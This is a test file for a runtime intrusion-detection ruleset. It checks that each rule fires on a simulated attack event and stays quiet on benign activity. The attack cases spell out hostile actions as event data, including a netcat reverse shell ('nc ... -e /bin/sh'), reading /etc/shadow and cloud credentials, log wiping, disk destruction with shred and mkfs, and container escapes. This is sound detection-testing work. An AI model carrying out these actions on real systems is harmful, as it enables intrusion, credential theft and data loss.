/**
 * The default rules' logic on synthetic events, through the real loader, compiler, state store
 * and field extractors: for every rule an attack case that must raise it (and nothing else at
 * Warning or above), and benign cases (package managers, log rotation, shells, runtimes, login
 * tools) that must stay quiet.
 */
import { assert, assertEquals } from "../support/assert.ts";
import { REPO_ROOT } from "../support/env.ts";
import { loadRulesFiles } from "../../src/rules/loader.ts";
import { compileRuleset, type Ruleset } from "../../src/rules/ruleset.ts";
import { priorityRank } from "../../src/rules/alert.ts";
import { type SeedThread, StateStore } from "../../src/state/store.ts";
import type { ContainerInfo } from "../../src/state/model.ts";
import { buildEvent } from "../../src/events/encode.ts";
import { flagValue } from "../../src/events/flags.ts";

const loaded = await loadRulesFiles([`${REPO_ROOT}rules`]);
const ruleset: Ruleset = compileRuleset(loaded, { ruleMatching: "all" });
const RULE_NAMES = new Set(loaded.rules.map((r) => r.name));

const NOW = BigInt(Date.now()) * 1_000_000n;
const CID = "c0ffee".padEnd(64, "0");

function flags(table: string, names: string): number {
  let v = 0;
  for (const n of names.split("|")) {
    const f = flagValue(table, n);
    if (f === undefined) throw new Error(`unknown flag ${n} in ${table}`);
    v |= f;
  }
  return v;
}

type Seed = Partial<SeedThread> & { comm: string };

/** A small process tree plus container metadata, and the alerts one event raises in it. */
class World {
  readonly containers = new Map<string, ContainerInfo>();
  readonly state: StateStore;
  #next = 1000;

  constructor() {
    this.state = new StateStore({
      userFiles: true,
      containers: {
        get: (id) => this.containers.get(id),
        request: () => {},
        set: (info) => void this.containers.set(info.id, info),
      },
    });
    this.state.addThread({ tid: 1, pid: 1, ppid: 0, comm: "systemd", exe: "/sbin/init", cwd: "/" });
  }

  /** Adds a process (child of `parent`, default pid 1); returns its pid. */
  proc(seed: Seed, parent = 1): number {
    const pid = seed.pid ?? this.#next++;
    this.state.addThread({
      tid: pid,
      pid,
      ppid: parent,
      exe: seed.comm,
      exepath: `/usr/bin/${seed.comm}`,
      args: [],
      cwd: "/root",
      uid: 0,
      gid: 0,
      loginuid: 0,
      startTs: NOW - 60_000_000_000n,
      vpid: pid,
      vtid: pid,
      ...seed,
    });
    this.state.linkChildren();
    return pid;
  }

  /** A container (metadata known) and a process in it. */
  container(
    info: Partial<ContainerInfo>,
    seed: Seed,
    parentSeed: Seed = { comm: "conmon" },
  ): number {
    this.containers.set(CID, {
      id: CID,
      type: "podman",
      name: "web-1",
      image: "localhost/app:1",
      imageRepository: "localhost/app",
      privileged: false,
      mounts: [],
      ...info,
    });
    const parent = this.proc(parentSeed);
    return this.proc({ containerId: CID, vpid: 7, ...seed }, parent);
  }

  /** Rules raised by one event of process `pid`. */
  fire(
    pid: number,
    name: string,
    params: Record<string, unknown>,
  ): { rule: string; priority: string; fields: Record<string, unknown> }[] {
    const th = this.state.threads.get(pid);
    const ev = buildEvent(name, { tid: pid, pid, comm: th?.proc?.comm ?? "" }, params, NOW);
    this.state.update(ev);
    const out: { rule: string; priority: string; fields: Record<string, unknown> }[] = [];
    ruleset.evaluate(
      ev,
      (a) => out.push({ rule: a.rule, priority: a.priority, fields: a.outputFields }),
    );
    return out;
  }
}

const O = (names: string) => flags("file_flags", names);
const open = (name: string, f: string, fd = 3) => ({
  fd,
  dirfd: -100,
  name,
  flags: O(f),
  mode: 0o644,
});
const exec = (
  w: World,
  pid: number,
  exe: string,
  args: string[],
  extra: Record<string, unknown> = {},
) => {
  const th = w.state.threads.get(pid)!;
  return w.fire(pid, "execve", {
    res: 0,
    exe,
    args,
    tid: pid,
    pid,
    ptid: th.proc?.ppid ?? 1,
    cwd: "/root",
    comm: exe.split("/").pop(),
    tty: 0,
    uid: th.uid,
    gid: 0,
    loginuid: 0,
    trusted_exepath: exe,
    filename: exe,
    ...extra,
  });
};

/** A TCP socket, then a connect to dip:dport (res 0, or -115 for EINPROGRESS). */
function connectOut(w: World, pid: number, dip: string, dport: number, res = 0) {
  w.fire(pid, "socket", { fd: 3, domain: 2, type: 1, proto: 0 });
  return w.fire(pid, "connect", {
    res,
    fd: 3,
    tuple: { family: 2, sip: "10.0.0.5", sport: 40000, dip, dport },
    addr: { family: 2, addr: dip, port: dport },
  });
}

interface Case {
  name: string;
  /** Rule that must fire ("" when none at Warning or above may fire). */
  rule: string;
  run(w: World): ReturnType<World["fire"]>;
  /** Output fields the alert must carry. */
  fields?: Record<string, unknown>;
}

const ATTACKS: Case[] = [
  {
    name: "untrusted program reads /etc/shadow",
    rule: "Sensitive file read by untrusted program",
    run: (w) => w.fire(w.proc({ comm: "saker-sim" }), "openat", open("/etc/shadow", "O_RDONLY")),
    fields: { "fd.name": "/etc/shadow", "proc.name": "saker-sim" },
  },
  {
    name: "untrusted program reads the PAM stack",
    rule: "PAM configuration read by untrusted program",
    run: (w) =>
      w.fire(w.proc({ comm: "python3" }), "openat", open("/etc/pam.d/common-auth", "O_RDONLY")),
    fields: { "fd.name": "/etc/pam.d/common-auth" },
  },
  {
    name: "untrusted program reads sudoers.d",
    rule: "Sensitive file read by untrusted program",
    run: (w) =>
      w.fire(w.proc({ comm: "cat" }), "openat", open("/etc/sudoers.d/admins", "O_RDONLY")),
  },
  {
    name: "web server reads /etc/shadow a minute after start",
    rule: "Sensitive file read by server after startup",
    run: (w) => w.fire(w.proc({ comm: "httpd" }), "openat", open("/etc/shadow", "O_RDONLY")),
    fields: { "fd.name": "/etc/shadow", "proc.name": "httpd" },
  },
  {
    name: "path traversal to /etc/shadow",
    rule: "Monitored file read through path traversal",
    run: (w) =>
      w.fire(
        w.proc({ comm: "php" }),
        "openat",
        open("/var/www/../../etc/../etc/shadow", "O_RDONLY"),
      ),
    fields: { "fd.name": "/etc/shadow", "fd.nameraw": "/var/www/../../etc/../etc/shadow" },
  },
  {
    name: "find looks for id_rsa",
    rule: "Private key search",
    run: (w) => exec(w, w.proc({ comm: "bash" }), "/usr/bin/find", ["/", "-name", "id_rsa"]),
    fields: { "proc.name": "find" },
  },
  {
    name: "grep for an AWS secret key",
    rule: "Cloud credentials search",
    run: (w) =>
      exec(w, w.proc({ comm: "bash" }), "/usr/bin/grep", ["-ri", "aws_secret_access_key", "/home"]),
    fields: { "proc.name": "grep" },
  },
  {
    name: "python reads an ssh private key",
    rule: "SSH private key read by untrusted program",
    run: (w) =>
      w.fire(w.proc({ comm: "python3" }), "openat", open("/home/ann/.ssh/id_ed25519", "O_RDONLY")),
    fields: { "fd.name": "/home/ann/.ssh/id_ed25519" },
  },
  {
    name: "curl reads .aws/credentials",
    rule: "Cloud credentials file read by untrusted program",
    run: (w) =>
      w.fire(w.proc({ comm: "curl" }), "openat", open("/root/.aws/credentials", "O_RDONLY")),
    fields: { "fd.name": "/root/.aws/credentials" },
  },
  {
    name: "auth.log truncated",
    rule: "Log file cleared",
    run: (w) =>
      w.fire(w.proc({ comm: "bash" }), "openat", open("/var/log/auth.log", "O_WRONLY|O_TRUNC")),
    fields: { "fd.name": "/var/log/auth.log" },
  },
  {
    name: "shred runs",
    rule: "Data destruction tool run",
    run: (w) => exec(w, w.proc({ comm: "bash" }), "/usr/bin/shred", ["-u", "/data/db"]),
    fields: { "proc.name": "shred" },
  },
  {
    name: "mkfs.ext4 runs",
    rule: "Data destruction tool run",
    run: (w) => exec(w, w.proc({ comm: "bash" }), "/usr/sbin/mkfs.ext4", ["/dev/sdb1"]),
  },
  {
    name: "symlink to /etc/shadow",
    rule: "Symlink to sensitive file created",
    run: (w) =>
      w.fire(w.proc({ comm: "ln" }), "symlinkat", {
        res: 0,
        target: "/etc/shadow",
        linkdirfd: -100,
        linkpath: "/tmp/x",
      }),
    fields: { "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/x" },
  },
  {
    name: "hard link to /etc/shadow",
    rule: "Hardlink to sensitive file created",
    run: (w) =>
      w.fire(w.proc({ comm: "ln" }), "linkat", {
        res: 0,
        olddir: -100,
        oldpath: "/etc/shadow",
        newdir: -100,
        newpath: "/tmp/y",
        flags: 0,
      }),
    fields: { "evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/tmp/y" },
  },
  {
    name: "new cron job file",
    rule: "File written below /etc",
    run: (w) =>
      w.fire(w.proc({ comm: "curl" }), "openat", open("/etc/cron.d/job", "O_WRONLY|O_CREAT")),
    fields: { "fd.name": "/etc/cron.d/job" },
  },
  {
    name: "trojan written to /usr/bin",
    rule: "File written below binary directory",
    run: (w) => w.fire(w.proc({ comm: "wget" }), "openat", open("/usr/bin/ls", "O_WRONLY|O_TRUNC")),
    fields: { "fd.name": "/usr/bin/ls" },
  },
  {
    name: "file created in /dev",
    rule: "Regular file created in /dev",
    run: (w) =>
      w.fire(w.proc({ comm: "bash" }), "openat", open("/dev/.hidden", "O_WRONLY|O_CREAT")),
    fields: { "fd.name": "/dev/.hidden" },
  },
  {
    name: "history truncated by a program",
    rule: "Shell history cleared",
    run: (w) =>
      w.fire(w.proc({ comm: "cp" }), "openat", open("/root/.bash_history", "O_WRONLY|O_TRUNC")),
  },
  {
    name: "history deleted by rm",
    rule: "Shell history cleared",
    run: (w) =>
      w.fire(w.proc({ comm: "rm" }), "unlinkat", {
        res: 0,
        dirfd: -100,
        name: "/root/.bash_history",
        flags: 0,
      }),
  },
  {
    name: "authorized_keys appended",
    rule: "SSH authorized keys modified",
    run: (w) =>
      w.fire(
        w.proc({ comm: "bash" }),
        "openat",
        open("/root/.ssh/authorized_keys", "O_WRONLY|O_APPEND"),
      ),
    fields: { "fd.name": "/root/.ssh/authorized_keys" },
  },
  {
    name: "setuid bit on a shell copy",
    rule: "Setuid or setgid bit set",
    run: (w) =>
      w.fire(w.proc({ comm: "chmod" }), "fchmodat", {
        res: 0,
        dirfd: -100,
        filename: "/tmp/.sh",
        mode: flags("chmod_mode", "S_ISUID|S_IRUSR|S_IWUSR|S_IXUSR"),
      }),
  },
  {
    name: "ld.so.preload written",
    rule: "Dynamic linker preload file modified",
    run: (w) =>
      w.fire(w.proc({ comm: "bash" }), "openat", open("/etc/ld.so.preload", "O_WRONLY|O_APPEND")),
  },
  {
    name: "nginx starts a shell",
    rule: "Shell spawned by untrusted program",
    run: (w) => exec(w, w.proc({ comm: "sh" }, w.proc({ comm: "nginx" })), "/bin/sh", ["-c", "id"]),
    fields: { "proc.name": "sh", "proc.pname": "nginx" },
  },
  {
    name: "shell two levels below a web server",
    rule: "Shell spawned by untrusted program",
    run: (w) =>
      exec(
        w,
        w.proc({ comm: "bash" }, w.proc({ comm: "php" }, w.proc({ comm: "apache2" }))),
        "/bin/bash",
        ["-i"],
      ),
  },
  {
    name: "shell below a Java application server",
    rule: "Shell spawned by untrusted program",
    run: (w) =>
      exec(
        w,
        w.proc(
          { comm: "sh" },
          w.proc({ comm: "java", args: ["-cp", "x", "org.apache.catalina.startup.Bootstrap"] }),
        ),
        "/bin/sh",
        ["-c", "id"],
      ),
  },
  {
    name: "database starts ls",
    rule: "Unexpected child of server process",
    run: (w) => exec(w, w.proc({ comm: "ls" }, w.proc({ comm: "mysqld" })), "/bin/ls", ["/"]),
    fields: { "proc.name": "ls", "proc.pname": "mysqld" },
  },
  {
    name: "daemon runs login",
    rule: "Interactive command by system user",
    run: (w) => exec(w, w.proc({ comm: "setpriv", uid: 1 }), "/bin/login", [], { uid: 1 }),
    fields: { "user.name": "daemon", "proc.name": "login" },
  },
  {
    name: "program run from /dev/shm",
    rule: "Program executed from /dev/shm",
    run: (w) => exec(w, w.proc({ comm: "bash" }), "/dev/shm/x", []),
  },
  {
    name: "shell runs a script in /dev/shm",
    rule: "Program executed from /dev/shm",
    run: (w) => exec(w, w.proc({ comm: "bash" }), "/bin/sh", ["-c", "/dev/shm/run.sh"]),
  },
  {
    name: "program executed from a memfd",
    rule: "Fileless execution from memory",
    run: (w) =>
      exec(w, w.proc({ comm: "loader" }), "/proc/self/fd/3", [], {
        flags: flags("execve_flags", "EXE_WRITABLE|EXE_FROM_MEMFD"),
        trusted_exepath: "memfd:payload (deleted)",
      }),
  },
  {
    name: "stratum URL on a command line",
    rule: "Crypto miner pool address on command line",
    run: (w) =>
      exec(w, w.proc({ comm: "bash" }), "/tmp/kworkerds", ["-o", "stratum+tcp://pool:3333"]),
  },
  {
    name: "ptrace attach",
    rule: "Process attached with ptrace",
    run: (w) =>
      w.fire(w.proc({ comm: "inject" }), "ptrace", {
        res: 0,
        request: flags("ptrace_requests", "PTRACE_ATTACH"),
        pid: 4242,
      }),
  },
  {
    name: "ptrace traceme",
    rule: "Anti-debugging with ptrace",
    run: (w) =>
      w.fire(w.proc({ comm: "malware" }), "ptrace", {
        res: 0,
        request: flags("ptrace_requests", "PTRACE_TRACEME"),
        pid: 0,
      }),
  },
  {
    name: "another process's memory opened for writing",
    rule: "Process memory opened for writing",
    run: (w) => w.fire(w.proc({ comm: "inject" }), "openat", open("/proc/4242/mem", "O_RDWR")),
  },
  {
    name: "finit_module by an unknown program",
    rule: "Kernel module load attempt",
    run: (w) =>
      w.fire(w.proc({ comm: "rootkit" }), "finit_module", { res: -38, fd: 3, uargs: "", flags: 0 }),
  },
  {
    name: "setns by an unknown program",
    rule: "Namespace changed with setns",
    run: (w) =>
      w.fire(w.proc({ comm: "escape" }), "setns", {
        res: 0,
        fd: 3,
        nstype: flags("clone_flags", "CLONE_NEWNET"),
      }),
  },
  {
    name: "setns by a program named like a CNI plugin, outside the plugin directories",
    rule: "Namespace changed with setns",
    run: (w) =>
      w.fire(w.proc({ comm: "bridge" }, w.proc({ comm: "podman" })), "setns", {
        res: 0,
        fd: 3,
        nstype: flags("clone_flags", "CLONE_NEWNET"),
      }),
  },
  {
    name: "setns by a CNI plugin that no runtime started",
    rule: "Namespace changed with setns",
    run: (w) =>
      w.fire(w.proc({ comm: "bridge", exepath: "/usr/lib/cni/bridge" }), "setns", {
        res: 0,
        fd: 3,
        nstype: flags("clone_flags", "CLONE_NEWNET"),
      }),
  },
  {
    name: "ls connects out",
    rule: "Outbound connection by system utility",
    run: (w) => connectOut(w, w.proc({ comm: "ls" }), "203.0.113.10", 80, 0),
    fields: { "proc.name": "ls", "fd.sip": "203.0.113.10", "fd.sport": 80 },
  },
  {
    name: "ssh to port 443",
    rule: "SSH connection to non-standard port",
    run: (w) => connectOut(w, w.proc({ comm: "ssh" }), "203.0.113.10", 443, -115),
  },
  {
    name: "shell started on a TCP socket",
    rule: "Shell with network socket as standard input",
    run: (w) => {
      const pid = w.proc({ comm: "python3" });
      connectOut(w, pid, "203.0.113.10", 4444);
      w.fire(pid, "dup2", { res: 0, oldfd: 3, newfd: 0 });
      return exec(w, pid, "/bin/sh", ["-i"]);
    },
    fields: { "proc.stdin.type": "ipv4" },
  },
  {
    name: "nc -e on the host",
    rule: "Netcat command execution on host",
    run: (w) =>
      exec(w, w.proc({ comm: "bash" }), "/bin/nc", ["203.0.113.10", "4444", "-e", "/bin/sh"]),
  },
  {
    name: "nc -e in a container",
    rule: "Netcat command execution in container",
    run: (w) =>
      exec(w, w.container({}, { comm: "sh" }), "/bin/nc", [
        "203.0.113.10",
        "4444",
        "-e",
        "/bin/sh",
      ]),
  },
  {
    name: "socket dup2'd onto stdin in a container",
    rule: "Standard streams redirected to socket in container",
    run: (w) => {
      const pid = w.container({}, { comm: "sh" });
      w.fire(pid, "socket", { fd: 5, domain: 2, type: 1, proto: 0 });
      w.fire(pid, "connect", {
        res: 0,
        fd: 5,
        tuple: { family: 2, sip: "172.17.0.2", sport: 40000, dip: "203.0.113.10", dport: 4444 },
        addr: { family: 2, addr: "203.0.113.10", port: 4444 },
      });
      return w.fire(pid, "dup2", { res: 0, oldfd: 5, newfd: 0 });
    },
    fields: { "fd.type": "ipv4", "fd.l4proto": "tcp" },
  },
  {
    name: "AF_PACKET socket in a container",
    rule: "Raw packet socket opened in container",
    run: (w) =>
      w.fire(w.container({}, { comm: "sniffer" }), "socket", {
        fd: 3,
        domain: 17,
        type: 3,
        proto: 768,
      }),
  },
  {
    name: "container contacts the metadata service",
    rule: "Cloud metadata service contacted from container",
    run: (w) => connectOut(w, w.container({}, { comm: "curl" }), "169.254.169.254", 80, 0),
  },
  {
    name: "container contacts the API server port",
    rule: "Kubernetes API server contacted from container",
    run: (w) => connectOut(w, w.container({}, { comm: "kubectl" }), "10.96.0.1", 6443, 0),
  },
  {
    name: "exec -t into a container",
    rule: "Terminal shell in container",
    run: (w) =>
      exec(w, w.container({}, { comm: "sh", tty: 34816 }, { comm: "runc" }), "/bin/sh", [], {
        tty: 34816,
      }),
  },
  {
    name: "exec -t shell adopted by the host's init",
    rule: "Terminal shell in container",
    run: (w) => {
      const pid = w.proc({ comm: "sh", containerId: CID, tty: 34816, vpid: 9 }, 1);
      w.container({}, { comm: "sleep", vpid: 1 });
      return exec(w, pid, "/bin/sh", [], { tty: 34816 });
    },
  },
  {
    name: "application in a container starts a shell",
    rule: "Shell spawned by program in container",
    run: (w) =>
      exec(
        w,
        w.proc({ comm: "sh", containerId: CID }, w.container({}, { comm: "app" })),
        "/bin/sh",
        ["-c", "id"],
      ),
  },
  {
    name: "privileged container starts",
    rule: "Privileged container started",
    run: (w) => exec(w, w.container({ privileged: true }, { comm: "sh", vpid: 1 }), "/bin/sh", []),
  },
  {
    name: "container with the host's /etc starts",
    rule: "Container with sensitive host mount started",
    run: (w) =>
      exec(
        w,
        w.container({
          mounts: [{
            source: "/etc",
            dest: "/host-etc",
            mode: "ro",
            rw: false,
            propagation: "rprivate",
          }],
        }, { comm: "sh", vpid: 1 }),
        "/bin/sh",
        [],
      ),
  },
  {
    name: "debugfs in a privileged container",
    rule: "Debugfs run in privileged container",
    run: (w) =>
      exec(w, w.container({ privileged: true }, { comm: "sh" }), "/sbin/debugfs", ["/dev/sda1"]),
  },
  {
    name: "release_agent written in a container",
    rule: "Cgroup release_agent written in container",
    run: (w) =>
      w.fire(
        w.container({}, { comm: "sh", capEffective: 1n << 21n }),
        "openat",
        open("/tmp/cg/release_agent", "O_WRONLY"),
      ),
  },
  {
    name: "binary from the upper layer executed",
    rule: "Dropped binary executed in container",
    run: (w) =>
      exec(w, w.container({}, { comm: "sh" }), "/tmp/x", [], {
        flags: flags("execve_flags", "EXE_WRITABLE|EXE_UPPER_LAYER"),
      }),
  },
  {
    name: "finit_module in a container",
    rule: "Kernel module load from container",
    run: (w) =>
      w.fire(w.container({}, { comm: "insmod" }), "finit_module", {
        res: -1,
        fd: 3,
        uargs: "",
        flags: 0,
      }),
  },
  {
    name: "unshare in an unprivileged container",
    rule: "Namespace unshared in unprivileged container",
    run: (w) =>
      w.fire(w.container({}, { comm: "exploit", capEffective: 0n }), "unshare", {
        res: -1,
        flags: flags("clone_flags", "CLONE_NEWUSER"),
      }),
  },
];

/** Everyday activity that must not raise anything at Warning or above. */
const BENIGN: Case[] = [
  {
    name: "podman's CNI bridge plugin enters the container's network namespace",
    rule: "",
    run: (w) =>
      w.fire(
        w.proc({ comm: "bridge", exepath: "/usr/lib/cni/bridge" }, w.proc({ comm: "podman" })),
        "setns",
        { res: 0, fd: 3, nstype: flags("clone_flags", "CLONE_NEWNET") },
      ),
  },
  {
    name: "a CNI meta plugin's delegate (tuning below multus) enters the namespace",
    rule: "",
    run: (w) =>
      w.fire(
        w.proc(
          { comm: "tuning", exepath: "/opt/cni/bin/tuning" },
          w.proc(
            { comm: "multus", exepath: "/opt/cni/bin/multus" },
            w.proc({ comm: "containerd" }),
          ),
        ),
        "setns",
        { res: 0, fd: 3, nstype: flags("clone_flags", "CLONE_NEWNET") },
      ),
  },
  {
    name: "passwd reads /etc/shadow",
    rule: "",
    run: (w) => w.fire(w.proc({ comm: "passwd" }), "openat", open("/etc/shadow", "O_RDONLY")),
  },
  {
    name: "sshd reads PAM configuration",
    rule: "",
    run: (w) => w.fire(w.proc({ comm: "sshd" }), "openat", open("/etc/pam.d/sshd", "O_RDONLY")),
  },
  {
    name: "maintainer script below dpkg writes /etc",
    rule: "",
    run: (w) =>
      w.fire(
        w.proc({ comm: "sed" }, w.proc({ comm: "sh" }, w.proc({ comm: "dpkg" }))),
        "openat",
        open("/etc/default/x", "O_WRONLY|O_CREAT|O_TRUNC"),
      ),
  },
  {
    name: "dpkg installs into /usr/bin",
    rule: "",
    run: (w) =>
      w.fire(
        w.proc({ comm: "dpkg" }),
        "openat",
        open("/usr/bin/tool.dpkg-new", "O_WRONLY|O_CREAT"),
      ),
  },
  {
    name: "logrotate truncates a log",
    rule: "",
    run: (w) =>
      w.fire(w.proc({ comm: "logrotate" }), "openat", open("/var/log/syslog", "O_WRONLY|O_TRUNC")),
  },
  {
    name: "bash rewrites its history",
    rule: "",
    run: (w) =>
      w.fire(w.proc({ comm: "bash" }), "openat", open("/root/.bash_history", "O_WRONLY|O_TRUNC")),
  },
  {
    name: "shell redirects to /dev/null",
    rule: "",
    run: (w) =>
      w.fire(w.proc({ comm: "sh" }), "openat", open("/dev/null", "O_WRONLY|O_CREAT|O_TRUNC")),
  },
  {
    name: "ssh reads its key",
    rule: "",
    run: (w) =>
      w.fire(w.proc({ comm: "ssh" }), "openat", open("/root/.ssh/id_ed25519", "O_RDONLY")),
  },
  {
    name: "ssh to port 22",
    rule: "",
    run: (w) => connectOut(w, w.proc({ comm: "ssh" }), "203.0.113.10", 22, 0),
  },
  {
    name: "cat reads a file over loopback-free local IO",
    rule: "",
    run: (w) => w.fire(w.proc({ comm: "cat" }), "openat", open("/etc/hostname", "O_RDONLY")),
  },
  {
    name: "gcc compiles into /tmp",
    rule: "",
    run: (w) =>
      w.fire(
        w.proc({ comm: "cc1" }, w.proc({ comm: "gcc" })),
        "openat",
        open("/tmp/ccA.s", "O_WRONLY|O_CREAT|O_TRUNC"),
      ),
  },
  {
    name: "git spawns a shell",
    rule: "",
    run: (w) =>
      exec(w, w.proc({ comm: "sh" }, w.proc({ comm: "git" })), "/bin/sh", [
        "-c",
        "git-upload-pack '/tmp/r'",
      ]),
  },
  {
    name: "runc executes its memfd copy",
    rule: "",
    run: (w) =>
      exec(w, w.proc({ comm: "runc" }, w.proc({ comm: "runc" })), "/proc/self/exe", ["init"], {
        flags: flags("execve_flags", "EXE_FROM_MEMFD"),
        trusted_exepath: "memfd:runc_cloned:/proc/self/exe",
      }),
  },
  {
    name: "strace attaches",
    rule: "",
    run: (w) =>
      w.fire(w.proc({ comm: "strace", exepath: "/usr/bin/strace" }), "ptrace", {
        res: 0,
        request: flags("ptrace_requests", "PTRACE_SEIZE"),
        pid: 4242,
      }),
  },
  {
    name: "container entry point shell",
    rule: "",
    run: (w) =>
      exec(w, w.container({}, { comm: "sh", vpid: 1 }, { comm: "conmon" }), "/bin/sh", [
        "-c",
        "exec app",
      ]),
  },
  {
    name: "modprobe loads a module",
    rule: "",
    run: (w) =>
      w.fire(w.proc({ comm: "modprobe" }), "finit_module", { res: 0, fd: 3, uargs: "", flags: 0 }),
  },
];

function atLeastWarning(p: string): boolean {
  return priorityRank(p as Parameters<typeof priorityRank>[0]) <= priorityRank("Warning");
}

Deno.test("ruleset logic: the default rules load without errors", () => {
  for (const r of loaded.results) assertEquals(r.errors.map((e) => e.message), [], r.name);
  assert(loaded.rules.length >= 40);
});

Deno.test("ruleset logic: every rule has an attack case here", () => {
  const covered = new Set(ATTACKS.map((c) => c.rule));
  assertEquals([...RULE_NAMES].filter((n) => !covered.has(n)), []);
});

for (const c of ATTACKS) {
  Deno.test(`ruleset logic: ${c.name} -> ${c.rule}`, () => {
    assert(RULE_NAMES.has(c.rule), `no rule '${c.rule}'`);
    const alerts = c.run(new World());
    const hit = alerts.find((a) => a.rule === c.rule);
    assert(hit, `'${c.rule}' did not fire; fired: ${JSON.stringify(alerts.map((a) => a.rule))}`);
    for (const [k, v] of Object.entries(c.fields ?? {})) {
      assertEquals(hit.fields[k], v, `${c.rule}: output field ${k}`);
    }
    const others = alerts.filter((a) => a.rule !== c.rule && atLeastWarning(a.priority));
    assertEquals(others.map((a) => a.rule), [], "other rules at Warning or above");
  });
}

for (const c of BENIGN) {
  Deno.test(`ruleset logic: benign: ${c.name}`, () => {
    const alerts = c.run(new World()).filter((a) => atLeastWarning(a.priority));
    assertEquals(alerts.map((a) => a.rule), []);
  });
}
